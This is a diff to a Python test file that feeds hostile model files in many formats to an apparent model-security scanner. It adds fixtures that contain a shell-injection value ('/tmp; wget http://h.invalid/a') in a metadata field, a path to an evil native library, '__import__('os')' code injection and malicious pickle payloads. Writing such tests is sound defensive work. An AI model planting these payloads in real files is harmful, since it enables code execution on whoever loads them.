@@ -1,6 +1,7 @@
 """A hostile file of every format, cut short or changed: what was found stays found, and there is always a verdict."""
 
 import json
+import struct
 from functools import cache
 
 import pytest
@@ -13,6 +14,7 @@ from tests.builders.archives import zipped
 from tests.builders.models import blocking, weighed
 from tests.builders.pickles import evil
 from tests.formats import test_coreml as coreml
+from tests.formats import test_native_harm as harm
 from tests.formats import test_numbers_beside_graphs as beside
 from tests.formats import test_onnx_ort as ort
 from tests.formats import test_paddle as paddle
@@ -35,6 +37,10 @@ CELL = {
     "source": ["import base64\n", "exec(base64.b64decode('eA=='))\n"],
 }
 MORE = {  # of formats that neither table has
+    "m.txt": harm.TREES.format("__import__('os')", "train.txt").encode(),
+    "m.cbm": b"CBM1" + struct.pack("<I", 64) + b'\0\0\0\0{"dir":"/tmp; wget http://h.invalid/a"}'.ljust(64),
+    "m.plan": b"ptrt" + bytes(40) + b"/tmp/libevil.so\0" + bytes(40),
+    "lite.json": json.dumps({"operator_codes": [{"custom_code": "Acme"}], "subgraphs": []}).encode(),
     "m.pkl": evil(4),
     "m.joblib": b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x930" + evil(4)[2:],
     "m.npy": numpy.npy("'|O'", "(1,)", evil(4)),
